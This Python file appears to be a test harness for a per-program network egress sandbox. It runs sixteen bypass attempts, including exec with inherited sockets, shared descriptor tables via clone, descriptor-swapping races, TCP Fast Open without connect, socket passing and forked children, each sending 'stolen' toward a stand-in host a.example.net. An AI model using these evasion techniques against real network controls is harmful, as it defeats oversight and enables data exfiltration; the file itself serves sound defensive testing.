"""Connects as a program that has no right, and becomes or hides behind one that has before anybody looks.

Every attack aims at a.example.net, which only `sleep`, `curl` and an allowed script may reach; whoever gets through is
seen there. The last lines show that allowed ones, and what an allowed one starts, get through to b.example.net."""
import ctypes, json, os, socket, struct, subprocess, sys, threading, time

TRIES = int(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
SYS_EXIT, SYS_CLONE, CLONE_FILES, CLONE_VM, SIGCHLD = 60, 56, 0x400, 0x100, 17
if os.uname().machine == "aarch64":
    SYS_EXIT, SYS_CLONE = 93, 220
MSG_FASTOPEN, TCP_FASTOPEN_CONNECT = 0x20000000, 30
PROXY = ("10.200.0.1", 3128)
HEAD = b"CONNECT a.example.net:7 HTTP/1.1\r\nHost: a.example.net:7\r\n\r\nstolen"
ALLOWED = "/sandbox/allowed.py"
with open(ALLOWED, "w") as file:
    file.write("""#!/usr/bin/python3
import socket, sys, time
if len(sys.argv) > 1:
    s = socket.create_connection(("10.200.0.1", 3128), 10)
    s.sendall(b"CONNECT b.example.net:80 HTTP/1.1\\r\\nHost: b.example.net:80\\r\\n\\r\\n")
    print(s.recv(100)[9:12].decode())
else:
    time.sleep(0.1)
""")
os.chmod(ALLOWED, 0o755)
# A script earns its right by having been left alone for a moment.
time.sleep(0.3)

def become(program):
    """Turns into an allowed program that keeps every descriptor."""
    if program == "script":
        os.execv(ALLOWED, [ALLOWED])
    os.execv("/usr/bin/sleep", ["sleep", "0.1"])

def sent(way):
    """A connected socket that has said what it wants."""
    s = socket.socket()
    os.set_inheritable(s.fileno(), True)
    s.connect(way[0])
    s.sendall(way[1])
    return s

def at_once(way):
    s = sent(way)
    become("sleep")

def same_interpreter(way):
    s = sent(way)
    become("script")

def before_it_is_connected(way):
    s = socket.socket()
    os.set_inheritable(s.fileno(), True)
    s.setblocking(False)
    threading.Thread(target=lambda: (s.connect_ex(way[0]), s.send(way[1])), daemon=True).start()
    become("sleep")

def from_a_thread_without_a_leader(way):
    def rest():
        s = sent(way)
        become("sleep")
    threading.Thread(target=rest).start()
    libc.syscall(SYS_EXIT, 0)

def through_a_child(way):
    s = sent(way)
    if os.fork() == 0:
        become("sleep")
    os._exit(0)

def with_a_shared_table(way):
    """The child connects in the table of its parent, which becomes the allowed program."""
    if libc.syscall(SYS_CLONE, CLONE_FILES | SIGCHLD, 0, 0, 0, 0) == 0:
        s = sent(way)
        os.kill(os.getpid(), 9)
    os.wait()
    become("sleep")

def with_another_socket_in_its_place(way):
    first, second = socket.socket(), socket.socket()
    place = os.dup2(first.fileno(), 200, inheritable=True)
    stop = threading.Event()
    def swap():
        while not stop.is_set():
            os.dup2(second.fileno(), place)
            os.dup2(first.fileno(), place)
    threading.Thread(target=swap, daemon=True).start()
    shown = socket.socket(fileno=place)
    shown.connect_ex(way[0])
    stop.set()
    for s in (first, second):
        try:
            s.send(way[1])
        except OSError:
            pass
        os.set_inheritable(s.fileno(), True)
    become("sleep")

def without_connect(way):
    s = socket.socket()
    os.set_inheritable(s.fileno(), True)
    s.sendto(way[1], MSG_FASTOPEN, way[0])
    become("sleep")

def with_a_late_connect(way):
    s = socket.socket()
    os.set_inheritable(s.fileno(), True)
    s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
    s.connect(way[0])
    s.send(way[1])
    become("sleep")

def again_on_the_same_socket(way):
    s = socket.socket()
    os.set_inheritable(s.fileno(), True)
    s.connect(way[0])
    libc.connect(s.fileno(), struct.pack("H14x", socket.AF_UNSPEC), 16)
    s.connect(way[0])
    s.sendall(way[1])
    become("sleep")

def with_the_socket_on_its_way(way):
    s = sent(way)
    here, there = socket.socketpair()
    for end in (here, there):
        os.set_inheritable(end.fileno(), True)
    socket.send_fds(here, [b"x"], [s.fileno()])
    s.close()
    become("sleep")

def as_a_child_of_what_comes_later(way):
    if os.fork() == 0:
        time.sleep(0.03)
        sent(way)
        os._exit(0)
    become("sleep")

def as_a_child_of_what_comes_now(way):
    if os.fork() == 0:
        sent(way)
        os._exit(0)
    become("sleep")

def as_another_program_with_such_a_parent(way):
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-Sc", f"import socket; s = socket.create_connection({way[0]!r}); s.sendall({way[1]!r})"])
    become("sleep")

def as_a_child_of_the_script_that_comes_later(way):
    if os.fork() == 0:
        time.sleep(0.05)
        sent(way)
        os._exit(0)
    become("script")

def into_the_memory_of(way):
    """Writes into an allowed program's memory; what it would say does not matter if it cannot be opened."""
    victim = subprocess.Popen(["/usr/bin/sleep", "0.2"])
    try:
        open(f"/proc/{victim.pid}/mem", "r+b").close()
        sent(way)
        print("memory", file=sys.stderr)
        os._exit(9)
    except OSError:
        os._exit(0)

def tried(attack, way, times):
    """Runs an attack in children, twenty at a time; says how often one could not even be made."""
    failed = 0
    for _ in range(0, times, 20):
        children = []
        for _ in range(20):
            pid = os.fork()
            if pid == 0:
                try:
                    attack(way)
                except OSError:
                    os._exit(9)
                os._exit(9)
            children.append(pid)
        failed += sum(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) not in (0, -9) for pid in children)
    return failed

direct = (socket.getaddrinfo("a.example.net", 7, socket.AF_INET, socket.SOCK_STREAM)[0][4], b"stolen")
attacks = [at_once, same_interpreter, before_it_is_connected, from_a_thread_without_a_leader, through_a_child,
           with_a_shared_table, with_another_socket_in_its_place, without_connect, with_a_late_connect,
           again_on_the_same_socket, with_the_socket_on_its_way, as_a_child_of_what_comes_later, as_a_child_of_what_comes_now,
           as_another_program_with_such_a_parent, as_a_child_of_the_script_that_comes_later, into_the_memory_of]
result = {}
for attack in attacks:
    for name, way in (("CONNECT", (PROXY, HEAD)), ("captured", direct)):
        result[f"{attack.__name__}, {name}"] = tried(attack, way, TRIES if attack in attacks[:3] else TRIES // 5)
# A process that has ended and is not collected yet must not get in the way of the allowed ones.
if os.fork() == 0:
    os._exit(0)
allowed = subprocess.run([ALLOWED, "ask"], capture_output=True, text=True).stdout.strip()
ask = open(ALLOWED).read().replace("len(sys.argv) > 1", "True")
child = subprocess.run(["/usr/bin/timeout", "9", "/bin/sh", "-c", f"{sys.executable} -c '{ask}'; true"],
                       capture_output=True, text=True).stdout.strip()
curl = subprocess.run(["/usr/bin/curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "http://b.example.net/"],
                      capture_output=True, text=True).stdout
print(json.dumps({"failed": result, "allowed": {"script": allowed, "curl": curl, "child": child}}))
